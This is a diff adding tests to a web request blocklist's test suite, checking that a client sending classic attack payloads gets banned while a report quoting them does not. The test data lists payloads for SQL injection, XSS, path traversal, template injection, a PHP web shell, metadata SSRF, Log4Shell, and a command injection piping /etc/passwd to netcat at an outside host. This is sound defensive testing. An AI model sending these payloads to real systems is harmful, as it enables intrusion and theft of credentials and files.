@@ -340,6 +340,38 @@ describe("a client that probes", () => {
     expect(visit("/")).toBe("blocklist/banned");
   });
 
+  /** One attack each of kinds that content inspection is certain about. */
+  const ATTACKS = [
+    "/?q=1'+union+select+password+from+users--",
+    "/?q=<script>alert(1)</script>",
+    "/?q=;cat+/etc/passwd|nc+203.0.113.9+4444",
+    "/?q=../../../../../../etc/passwd",
+    "/?q={{7*7}}{{constructor.constructor('return+process')()}}",
+    "/?q=<?php+system($_GET['c']);?>",
+    "/?q=http://169.254.169.254/latest/meta-data/iam/",
+    "/?q=${jndi:ldap://203.0.113.9/a}",
+  ];
+
+  test("is banned for attacks of six kinds, each counting half a probe, and not for one that it sends again", () => {
+    const { visit } = build();
+    const rules: string[] = [];
+    while (rules.at(-1) !== "blocklist/banned" && rules.length < ATTACKS.length * 3) {
+      const attack = ATTACKS[Math.floor(rules.length / 3)]!;
+      rules.push(visit(attack));
+    }
+    const kinds = new Set(rules.slice(0, -1).map((rule) => rule.split("/")[0]));
+    expect(rules.at(-1)).toBe("blocklist/banned");
+    expect([...kinds]).not.toContain("score");
+    expect(kinds.size).toBe(6);
+  });
+
+  test("is not banned for a report that quotes many attacks, however often it is sent", () => {
+    const { visit } = build();
+    const report = `/?q=${ATTACKS.map((attack) => attack.slice(4)).join("+and+")}`;
+    for (let count = 0; count < 20; count++) expect(visit(report)).not.toBe("blocklist/banned");
+    expect(visit("/")).toBe("pass");
+  });
+
   test("is not banned for many missing pages of ordinary names", () => {
     const { visit } = build();
     for (let count = 0; count < 200; count++) visit(`/articles/a-missing-one-${count}`);
